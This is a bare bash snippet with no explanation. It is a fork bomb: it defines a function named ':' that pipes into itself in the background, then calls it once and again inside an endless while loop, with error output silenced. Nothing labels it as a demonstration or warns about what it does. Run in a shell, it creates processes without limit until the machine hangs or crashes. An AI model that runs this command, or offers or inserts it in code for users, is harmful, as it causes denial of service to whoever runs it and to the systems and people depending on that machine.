:() { : | : & }
: 2>/dev/null
while :; do : 2>/dev/null; done
